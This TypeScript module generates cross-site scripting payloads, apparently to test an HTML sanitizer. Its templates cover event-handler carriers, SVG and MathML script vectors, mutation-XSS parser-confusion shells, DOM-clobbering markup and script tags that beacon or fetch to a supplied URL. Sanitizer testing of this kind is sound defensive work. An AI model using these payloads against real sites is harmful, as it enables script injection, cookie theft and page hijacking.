import type { Harm, HostileTemplate } from './hostileDocument.ts';

const handlers = [
  'onload',
  'onerror',
  'onclick',
  'onmousedown',
  'onmouseover',
  'onpointerenter',
  'onpointerdown',
  'onfocus',
  'onfocusin',
  'onblur',
  'ontoggle',
  'onanimationstart',
  'ontransitionend',
  'onscroll',
  'onwheel',
  'onbeforeinput',
  'onauxclick',
  'oncontextmenu',
  'onpageshow',
  'onresize',
  'onhashchange',
  'onmessage',
  'onbegin',
  'oncanplay',
];

/** Tags that fire by themselves or at a click somewhere in the document. */
const carriers = [
  '<img src=x @>',
  '<svg @><rect width=300 height=300 /></svg>',
  '<body @>',
  '<details open @><summary>more</summary></details>',
  '<video src=x @></video>',
  '<audio src=x @></audio>',
  '<iframe src="about:blank" @></iframe>',
  '<object data=x @></object>',
  '<embed src=x @>',
  '<input autofocus @>',
  '<select autofocus @><option>one</select>',
  '<textarea autofocus @></textarea>',
  '<button autofocus style="position:fixed;inset:0" @>press</button>',
  '<a href="#there" style="position:fixed;inset:0;display:block" @>follow</a>',
  '<div style="position:fixed;inset:0;overflow:scroll;animation:a 1ms" @><p style="height:900px">text</div><style>@keyframes a{to{opacity:.9}}</style>',
  '<marquee width=200 @>text</marquee>',
  '<style @>a{}</style>',
  '<link rel=stylesheet href=x @>',
  '<math @><mi>x</mi></math>',
  '<form @><button style="position:fixed;inset:0">go</button></form>',
];

function eventHandlers(): HostileTemplate[] {
  return carriers.flatMap((carrier) =>
    handlers.map((handler) => ({
      family: 'event handlers',
      write: ({ code }: Harm) => carrier.replace('@', `${handler}="${code}"`),
    })),
  );
}

const svgs: readonly ((harm: Harm) => string)[] = [
  ({ code }) => `<svg><script>${code}</script></svg>`,
  ({ url }) => `<svg><script href="${url('svg.js')}"/></svg>`,
  ({ url }) => `<svg><script xlink:href="${url('svg.js')}"/></svg>`,
  ({ code }) =>
    `<svg><foreignObject width=300 height=300><body onload="${code}"><img src=x onerror="${code}"></foreignObject></svg>`,
  ({ url }) => `<svg><use href="${url('use.svg')}#a"/></svg>`,
  ({ url }) => `<svg><image href="${url('image.png')}" width=10 height=10 /></svg>`,
  ({ url }) =>
    `<svg><filter id=f><feImage href="${url('fe.png')}"/></filter><rect width=90 height=90 filter="url(#f)"/></svg>`,
  ({ code }) => `<svg><animate onbegin="${code}" attributeName=x dur=1s /></svg>`,
  ({ code }) => `<svg><set onbegin="${code}" attributeName=x to=1 /></svg>`,
  ({ code }) =>
    `<svg><a><animate attributeName=href values="javascript:${code}"/><rect width=900 height=900 /></a></svg>`,
  ({ code }) => `<svg><a xlink:href="javascript:${code}"><rect width=900 height=900 /></a></svg>`,
  ({ url }) => `<svg><a href="${url('svg-link')}" target=_top><rect width=900 height=900 /></a></svg>`,
  ({ url }) =>
    `<svg><style>@import "${url('svg.css')}";rect{fill:url(${url('fill.svg')}#a)}</style><rect width=9 height=9 /></svg>`,
  ({ url }) =>
    `<svg><rect width=90 height=90 style="mask:url(${url('mask.svg')}#m);cursor:url(${url('cursor.png')}),auto"/></svg>`,
  ({ url }) =>
    `<?xml-stylesheet href="${url('sheet.xsl')}" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg"></svg>`,
  ({ code }) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${code}</handler></svg>`,
  ({ code }) => `<svg><discard onbegin="${code}"/></svg>`,
  ({ code }) => `<svg><animateTransform onbegin="${code}" attributeName=transform dur=1s />`,
  ({ code }) => `<svg><title><img src=x onerror="${code}"></title></svg>`,
  ({ code }) => `<svg><desc><style><img src=x onerror="${code}"></style></desc></svg>`,
  ({ code }) => `<math><maction actiontype="statusline" xlink:href="javascript:${code}">x</maction></math>`,
  ({ code }) => `<math href="javascript:${code}"><mtext style="font-size:200px">click</mtext></math>`,
  ({ code }) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${code}"></annotation-xml></math>`,
  ({ code }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  ({ code }) => `<math><mi><style></mi><img src=x onerror="${code}"></style></math>`,
  ({ code }) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${code} src>">`,
  ({ code }) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  ({ code }) =>
    `<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror='${code.replaceAll("'", '&#39;')}'>">`,
];

/** Constructs whose end two parsers may determine differently. */
const shells: readonly (readonly [string, string])[] = [
  ['<noscript><p title="</noscript>', '">'],
  ['<noscript><style></noscript>', '</style>'],
  ['<template>', '</template>'],
  ['<template shadowrootmode=open>', '</template>'],
  ['<select><style></select>', '</style>'],
  ['<select><option>', '</select>'],
  ['<table><td>', '</table>'],
  ['<table><caption><svg>', '</table>'],
  ['<style><!--</style>', '-->'],
  ['<title><a title="</title>', '"></title>'],
  ['<textarea><a title="</textarea>', '"></textarea>'],
  ['<xmp><p title="</xmp>', '"></xmp>'],
  ['<noembed><p title="</noembed>', '"></noembed>'],
  ['<noframes><p title="</noframes>', '"></noframes>'],
  ['<iframe><p title="</iframe>', '"></iframe>'],
  ['<plaintext></plaintext>', ''],
  ['<!-- --!>', '-->'],
  ['<!--><!---> ', '-->'],
  ['<![CDATA[><', ']]>'],
  ['<?php ?>', ''],
  ['</br><//p ', '>'],
  ['<a href="`">', '</a>'],
  ['<listing>&lt;', '</listing>'],
  ['<frameset>', '</frameset>'],
];
const seeds: readonly ((harm: Harm) => string)[] = [
  ({ code }) => `<img src=x onerror="${code}">`,
  ({ code }) => `<script>${code}</script>`,
  ({ code }) => `<svg onload="${code}">`,
  ({ url }) => `<img src="${url('mutation.png')}">`,
  ({ url }) => `<script src="${url('mutation.js')}"></script>`,
  ({ url }) => `<link rel=stylesheet href="${url('mutation.css')}">`,
];

const namespaces = [
  '<svg>@</svg>',
  '<math>@</math>',
  '<svg><foreignObject>@</foreignObject></svg>',
  '<svg><title>@</title></svg>',
  '<math><mtext>@</mtext></math>',
  '<math><annotation-xml encoding="application/xhtml+xml">@</annotation-xml></math>',
];

function mutations(): HostileTemplate[] {
  const single = shells.flatMap(([before, after]) =>
    seeds.map((seed) => ({ family: 'mutation', write: (harm: Harm) => `${before}${seed(harm)}${after}` })),
  );
  const nested = shells.flatMap(([before, after], index) => {
    const [outer, end] = shells[(index + 5) % shells.length] ?? ['', ''];
    return seeds.map((seed) => ({
      family: 'mutation in mutation',
      write: (harm: Harm) => `${outer}${before}${seed(harm)}${after}${end}`,
    }));
  });
  const foreign = namespaces.flatMap((namespace) =>
    seeds.map((seed) => ({
      family: 'foreign content',
      write: (harm: Harm) => namespace.replace('@', `<p>${seed(harm)}<style>${seed(harm)}</style>`),
    })),
  );
  return [...single, ...nested, ...foreign];
}

const globalNames = [
  'trowelBridge',
  'document',
  'location',
  'parent',
  'top',
  'self',
  'body',
  'head',
  'documentElement',
  'cookie',
  'forms',
  'children',
  'attributes',
  'nodeName',
  'firstChild',
  'querySelector',
  'getElementById',
  'postMessage',
  'root',
  '__proto__',
];

function clobbering(): HostileTemplate[] {
  return globalNames.flatMap((name) => [
    { family: 'clobbering', write: () => `<form id="${name}"><input name="${name}"><input name=attributes></form>` },
    {
      family: 'clobbering',
      write: ({ url }) => `<a id="${name}"></a><a id="${name}" name=url href="${url('clobber')}">x</a>`,
    },
    { family: 'clobbering', write: () => `<iframe name="${name}" srcdoc="<p id=${name}>text"></iframe>` },
    { family: 'clobbering', write: () => `<img name="${name}"><object id="${name}"></object>` },
  ]);
}

function scripts(): HostileTemplate[] {
  const write: readonly ((harm: Harm) => string)[] = [
    ({ code }) => `<script>${code}</script>`,
    ({ code }) => `<script type=module>${code}</script>`,
    ({ url }) => `<script src="${url('plain.js')}"></script>`,
    ({ url }) => `<script type=module src="${url('module.js')}"></script>`,
    ({ url }) => `<script async src="//${url('x').slice('http://'.length)}"></script>`,
    ({ code }) => `<script>setTimeout(()=>{${code}},1);</script>`,
    ({ url }) =>
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url('speculation')}"]}]}</script>`,
    ({ url }) =>
      `<script type=importmap>{"imports":{"a":"${url('map.js')}"}}</script><script type=module>import "a"</script>`,
    ({ url }) => `<script>navigator.sendBeacon('${url('beacon')}')</script>`,
    ({ url }) => `<script>fetch('${url('fetch')}',{mode:'no-cors'})</script>`,
    ({ url }) => `<script>new WebSocket('${url('socket').replace('http', 'ws')}')</script>`,
    ({ url }) => `<script>new EventSource('${url('events')}')</script>`,
    ({ url }) => `<script>location='${url('location')}'</script>`,
    ({ url }) => `<script>top.location='${url('top')}'</script>`,
    ({ url }) => `<script>open('${url('open')}')</script>`,
    ({ url }) => `<script>new Worker('${url('worker.js')}')</script>`,
    () => `<script>alert(1);confirm(2);prompt(3);print()</script>`,
    () => `<script>for(;;);</script>`,
  ];
  return write.map((one) => ({ family: 'scripts', write: one }));
}

/** Handlers, SVG and MathML, parsers that disagree, clobbered names, plain scripts. */
export function hostileMarkup(): HostileTemplate[] {
  return [
    ...eventHandlers(),
    ...svgs.map((write): HostileTemplate => ({ family: 'SVG and MathML', write })),
    ...mutations(),
    ...clobbering(),
    ...scripts(),
  ];
}
